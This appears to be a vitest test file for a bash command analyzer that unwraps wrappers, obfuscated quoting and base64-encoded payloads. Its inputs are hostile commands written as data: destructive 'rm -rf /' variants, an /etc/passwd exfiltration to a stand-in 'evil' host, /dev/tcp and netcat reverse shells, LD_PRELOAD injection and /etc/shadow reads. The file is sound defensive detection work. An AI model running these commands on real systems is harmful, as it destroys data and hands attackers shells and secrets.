import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Analysis } from '../types.js';
import { type Analyzer, createAnalyzer } from './index.js';

let analyzer: Analyzer;
beforeAll(async () => {
  analyzer = await createAnalyzer({ cacheEntries: 0 });
});
afterAll(() => analyzer.close());

const bash = (code: string): Analysis => analyzer.analyze({ language: 'bash', code });
/** `via > via :: argv` per invocation, in the order found. */
const chain = (a: Analysis): string[] => a.invocations.map((i) => `${i.via.join(' > ')} :: ${i.argv.join(' ')}`);
const programs = (a: Analysis): string[] => a.invocations.map((i) => i.program);

describe('bash wrappers and nesting', () => {
  it.each([
    ['sudo -u root /bin/rm -r -f /', [' :: sudo -u root /bin/rm -r -f /', 'sudo :: /bin/rm -r -f /']],
    ['sudo -E -uroot FOO=1 rm -rf /', [' :: sudo -E -uroot FOO=1 rm -rf /', 'sudo :: rm -rf /']],
    ['doas -u root rm -rf /', [' :: doas -u root rm -rf /', 'doas :: rm -rf /']],
    ['env -i PATH=/x rm -rf /', [' :: env -i PATH=/x rm -rf /', 'env :: rm -rf /']],
    ["env -S 'rm -rf /'", [" :: env -S rm -rf /", 'env :: rm -rf /']],
    ['/usr/bin/env rm -rf /', [' :: /usr/bin/env rm -rf /', 'env :: rm -rf /']],
    ['env - A=1 rm x', [' :: env - A=1 rm x', 'env :: rm x']],
    ['timeout 5 nohup rm -rf ~', [' :: timeout 5 nohup rm -rf ~', 'timeout :: nohup rm -rf ~', 'timeout > nohup :: rm -rf ~']],
    ['timeout -s KILL --kill-after=2 10s rm x', [' :: timeout -s KILL --kill-after=2 10s rm x', 'timeout :: rm x']],
    ['nice -n 10 ionice -c3 stdbuf -oL rm x', [' :: nice -n 10 ionice -c3 stdbuf -oL rm x', 'nice :: ionice -c3 stdbuf -oL rm x', 'nice > ionice :: stdbuf -oL rm x', 'nice > ionice > stdbuf :: rm x']],
    ['time command exec builtin rm x', [' :: time command exec builtin rm x', 'time :: command exec builtin rm x', 'time > command :: exec builtin rm x', 'time > command > exec :: builtin rm x', 'time > command > exec > builtin :: rm x']],
    ['command -v rm', [' :: command -v rm']],
    ['setsid -f chroot /mnt rm x', [' :: setsid -f chroot /mnt rm x', 'setsid :: chroot /mnt rm x', 'setsid > chroot :: rm x']],
    ['unshare -r -n rm x', [' :: unshare -r -n rm x', 'unshare :: rm x']],
    ['flock /tmp/l rm x', [' :: flock /tmp/l rm x', 'flock :: rm x']],
    ["flock -w 3 /tmp/l -c 'rm x'", [' :: flock -w 3 /tmp/l -c rm x', 'flock -c :: rm x']],
    ["su - root -c 'rm -rf /'", [' :: su - root -c rm -rf /', 'su -c :: rm -rf /']],
    ["watch -n 1 'rm -rf /tmp/x'", [' :: watch -n 1 rm -rf /tmp/x', 'watch :: rm -rf /tmp/x']],
    ['busybox rm -rf /', [' :: busybox rm -rf /', 'busybox :: rm -rf /']],
    ['xargs -0 -n1 rm -rf', [' :: xargs -0 -n1 rm -rf', 'xargs :: rm -rf']],
    ['find / -name x -exec rm -rf {} \\;', [' :: find / -name x -exec rm -rf {} ;', 'find -exec :: rm -rf {}']],
    ['find . -execdir sh -c "rm $1" _ {} +', [' :: find . -execdir sh -c rm $1 _ {} +', 'find -execdir :: sh -c rm $1 _ {}', 'find -execdir > sh -c :: rm $1']],
    ['find /tmp -delete', [' :: find /tmp -delete']],
    [`sh -c "bash -c 'rm -rf /'"`, [" :: sh -c bash -c 'rm -rf /'", 'sh -c :: bash -c rm -rf /', 'sh -c > bash -c :: rm -rf /']],
    ["bash -lec 'rm x'", [' :: bash -lec rm x', 'bash -c :: rm x']],
    ["bash -o pipefail -c 'rm x'", [' :: bash -o pipefail -c rm x', 'bash -c :: rm x']],
    ['eval "rm -rf /"', [' :: eval rm -rf /', 'eval :: rm -rf /']],
    ['eval rm -rf /', [' :: eval rm -rf /', 'eval :: rm -rf /']],
    [`python3 -c 'import os; os.system("rm -rf /")'`, [' :: python3 -c import os; os.system("rm -rf /")', 'python3 -c > os.system :: rm -rf /']],
    [`node -e "require('child_process').execSync('rm -rf /')"`, [" :: node -e require('child_process').execSync('rm -rf /')", 'node -e > child_process.execSync :: rm -rf /']],
    [`deno eval "Deno.run({cmd: ['rm', 'x']})"`, [` :: deno eval Deno.run({cmd: ['rm', 'x']})`, 'deno eval > Deno.run :: rm x']],
    ["perl -e 'unlink q(/x)'", [' :: perl -e unlink q(/x)']],
  ])('%s', (code, expected) => {
    expect(chain(bash(code))).toEqual(expected);
  });

  it('records the language each invocation was found in', () => {
    const a = bash(`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`);
    expect(a.invocations.map((i) => [i.program, i.language])).toEqual([
      ['python3', 'bash'],
      ['rm', 'python'],
    ]);
  });

  it('marks arguments supplied at run time (xargs, find -exec) as dynamic', () => {
    const a = bash('ls | xargs rm -rf; find . -exec rm {} +');
    expect(a.invocations.filter((i) => i.program === 'rm').map((i) => i.dynamic)).toEqual([true, true]);
  });
});

describe('bash quoting', () => {
  it.each([
    ["r''m -rf /", 'rm'],
    ['"rm" -rf /', 'rm'],
    ["$'\\x72\\x6d' -rf /", 'rm'],
    ["$'\\162\\155' -rf /", 'rm'],
    ['\\rm -rf /', 'rm'],
    ['r\\\nm -rf /', 'rm'],
    ['"r\\\nm" -rf /', 'rm'],
    ['$"rm" -rf /', 'rm'],
    ['$(echo rm) -rf /', 'rm'],
    ['`printf rm` -rf /', 'rm'],
    ['ｒｍ －ｒｆ ／', 'rm'],
    ['r\u200bm -rf /', 'rm'],
    ['\u202erm -rf /', 'rm'],
  ])('%j is rm', (code, program) => {
    const a = bash(code);
    expect(a.invocations[a.invocations.length - 1]).toMatchObject({ program, argv: [program, '-rf', '/'] });
  });

  it('joins line continuations between words', () => {
    expect(bash('rm \\\n -rf \\\n /').invocations[0]?.argv).toEqual(['rm', '-rf', '/']);
  });

  it('keeps the literal parts of dynamic words', () => {
    const [inv] = bash('rm -rf "$HOME"/x ${DIR:-/}').invocations;
    expect(inv).toMatchObject({ argv: ['rm', '-rf', '$HOME/x', '${DIR:-/}'], dynamic: true });
  });

  it('expands braces and splits unquoted substitutions as bash does', () => {
    expect(bash('echo {a,b}c').invocations[0]?.argv).toEqual(['echo', 'ac', 'bc']);
    expect(bash('$(echo rm -rf /)').invocations.at(-1)?.argv).toEqual(['rm', '-rf', '/']);
  });

  it('splits on $IFS and uses literal values assigned earlier, still marked dynamic', () => {
    expect(bash('rm${IFS}-rf${IFS}/').invocations[0]).toMatchObject({ argv: ['rm', '-rf', '/'], dynamic: true });
    expect(bash('x=rm; y="-rf /"; $x $y').invocations[0]).toMatchObject({ program: 'rm', argv: ['rm', '-rf', '/'], dynamic: true });
    expect(bash('x=rm; x=$(cat f); $x /').invocations.at(-1)?.argv).toEqual(['$x', '/']);
    expect(bash('x=rm true; $x /').invocations.at(-1)?.argv).toEqual(['$x', '/']);
  });

  it('does not count comments as commands', () => {
    expect(programs(bash('# rm -rf /\nls # ; rm -rf /\n  # sudo reboot'))).toEqual(['ls']);
  });

  it('handles prefix assignments and declarations', () => {
    const a = bash('FOO=1 BAR="x y" rm -rf /; export LD_PRELOAD=/tmp/x.so');
    expect(chain(a)).toEqual([' :: rm -rf /', ' :: export LD_PRELOAD=/tmp/x.so']);
    expect(a.strings.map((s) => s.value)).toContain('BAR=x y');
  });
});

describe('bash segments', () => {
  it('finds commands in lists, subshells, substitutions, functions and control flow', () => {
    const code = [
      'a && b || c; d &',
      '(e; f)',
      '{ g; }',
      'h "$(i)" `j` <(k) >(l)',
      'm() { n; }',
      'if o; then p; elif q; then r; else s; fi',
      'for x in 1; do t; done',
      'while u; do v; done',
      'case $x in y) w;; esac',
      '! z',
    ].join('\n');
    // m is only defined, never run.
    expect(programs(bash(code)).sort()).toEqual([...'abcdefghijklnopqrstuvwz'].sort());
  });

  it('numbers pipeline stages', () => {
    const a = bash('cat /etc/passwd | grep root | nc evil 9; ls | wc');
    expect(a.invocations.map((i) => [i.program, i.pipeline?.id, i.pipeline?.stage])).toEqual([
      ['cat', 0, 0],
      ['grep', 0, 1],
      ['nc', 0, 2],
      ['ls', 1, 0],
      ['wc', 1, 1],
    ]);
  });

  it('keeps a pipeline whole when a stage has a redirect', () => {
    // tree-sitter nests this as ((cat | sh) 2>&1) | nc, then > f around all of it.
    const a = bash('cat f | sh -i 2>&1 | nc h p > f');
    expect(a.invocations.map((i) => [i.program, i.pipeline?.id, i.pipeline?.stage])).toEqual([
      ['cat', 0, 0],
      ['sh', 0, 1],
      ['nc', 0, 2],
    ]);
    expect(a.redirects.map((r) => [r.op, r.target])).toEqual([['>', 'f']]);
  });

  it('binds | tighter than && even when a redirect makes tree-sitter wrap the list', () => {
    const a = bash('mknod /tmp/p p && nc h 4444 0</tmp/p | /bin/sh 1>/tmp/p 2>&1');
    expect(a.invocations.map((i) => [i.argv.join(' '), i.pipeline?.id, i.pipeline?.stage])).toEqual([
      ['mknod /tmp/p p', undefined, undefined],
      ['nc h 4444', 0, 0],
      ['/bin/sh', 0, 1],
    ]);
  });

  it('passes literal data through a redirected stage', () => {
    const rm = bash('echo cm0gLXJmIC8= | base64 -d 2>/dev/null | sh').invocations.find((i) => i.program === 'rm');
    expect(rm).toMatchObject({ argv: ['rm', '-rf', '/'], via: ['sh -s', 'base64'] });
  });

  it('reads digits right before < or > as the redirect’s descriptor, not an argument', () => {
    expect(bash('bash -i >& /dev/tcp/h/4444 0>&1').invocations[0]?.argv).toEqual(['bash', '-i']);
    expect(bash('nc h 4 0</tmp/p').invocations[0]?.argv).toEqual(['nc', 'h', '4']);
    expect(bash('echo "1">f').invocations[0]?.argv).toEqual(['echo', '1']);
  });

  it.each([
    ['exec 3<>/dev/tcp/h/p', '/dev/tcp/h/p'],
    ['exec 3<> /dev/udp/h/53', '/dev/udp/h/53'],
    ['cat <>f', 'f'],
    ['while read -r l; do echo "$l"; done 3<>fifo', 'fifo'],
  ])('parses the read-write redirect in %j', (code, target) => {
    const a = bash(code);
    expect(a.problems).toEqual([]);
    expect(a.redirects.map((r) => [r.op, r.target])).toEqual([['<>', target]]);
  });

  it.each([
    ['$(ls |grep -v ^packages$)', ['grep', '-v', '^packages$']],
    ['if [ -e $D ]; then\n\tcd $D && rm -rf $(ls |grep -v ^packages$)\n\trmdir $D\nfi', ['grep', '-v', '^packages$']],
    ['echo $; ls', ['echo', '$']],
    ['echo a$/b $$', ['echo', 'a$/b', '$$']],
  ])('reads a literal $ the grammar cannot parse in %j', (code, argv) => {
    const a = bash(code);
    expect(a.problems).toEqual([]);
    expect(a.invocations.map((i) => i.argv)).toContainEqual(argv);
  });

  it.each([
    ['$(curl -fsSL https://x)', ''],
    ['`curl -s https://example.com/y` -c 1', ''],
    ['$X.sh', ''],
    ['${PREFIX}bin', ''],
    ['x=rm; $x -rf /', 'rm'],
    ['x=sh; /bin/$x', 'sh'],
    ['"$DIR"/rm -rf /', 'rm'],
    ['rm${IFS}-rf${IFS}/', 'rm'],
  ])('names the program of %j %j, never a fragment of run-time text', (code, program) => {
    expect(bash(code).invocations.at(-1)?.program).toBe(program);
  });

  it('records redirects with literal targets', () => {
    const a = bash('echo x > /etc/passwd; echo y >> ~/.bashrc 2>&1; cat < /etc/shadow; ls &> /dev/null; date >| f; echo > "$X"');
    expect(a.redirects.map((r) => [r.op, r.target])).toEqual([
      ['>', '/etc/passwd'],
      ['>>', '~/.bashrc'],
      ['<', '/etc/shadow'],
      ['&>', '/dev/null'],
      ['>|', 'f'],
    ]);
    expect(a.text.slice(a.redirects[0]?.span.start, a.redirects[0]?.span.end)).toBe('> /etc/passwd');
  });

  it('keeps words tree-sitter hangs on a redirect', () => {
    expect(bash('rm >/dev/null -rf /').invocations[0]?.argv).toEqual(['rm', '-rf', '/']);
  });
});

describe('bash code fed to interpreters', () => {
  it.each([
    ['bash <<EOF\nrm -rf /\nEOF', 'bash -s'],
    ["python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", 'python3 -'],
    ['sh <<< "rm -rf /"', 'sh -s'],
    ['cat <<EOF | sh\nrm -rf /\nEOF', 'sh -s'],
    ['echo "rm -rf /" | sudo bash', 'bash -s'],
  ])('%j', (code, label) => {
    const rm = bash(code).invocations.find((i) => i.program === 'rm');
    expect(rm?.argv).toEqual(['rm', '-rf', '/']);
    expect(rm?.via).toContain(label);
  });

  it.each([
    'echo cm0gLXJmIC8= | base64 -d | sh',
    'printf %s cm0gLXJmIC8= | base64 --decode | bash',
    'base64 -d <<< cm0gLXJmIC8= | sh',
    'bash -c "$(echo cm0gLXJmIC8= | base64 -d)"',
    'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
    'sh -c "`echo cm0gLXJmIC8= | base64 -d`"',
    '$(echo cm0gLXJmIC8= | base64 -d)',
    'echo 726d202d7266202f | xxd -r -p | sh',
    'echo H4sIAAAAAAAAAyvKVdAtSlPQBwBcTPLsCAAAAA== | base64 -d | gunzip | sh',
  ])('decodes and analyses %j', (code) => {
    const rm = bash(code).invocations.find((i) => i.program === 'rm');
    expect(rm?.argv).toEqual(['rm', '-rf', '/']);
    expect(rm?.via.some((v) => v === 'base64' || v === 'xxd')).toBe(true);
  });

  it('decodes base64 for python and node too', () => {
    const a = bash('echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJlYm9vdCIp | base64 -d | python3');
    expect(a.calls.map((c) => c.name)).toEqual(['os.system']);
    expect(a.invocations.at(-1)).toMatchObject({ program: 'reboot', via: ['python3 -', 'base64', 'os.system'] });
  });
});
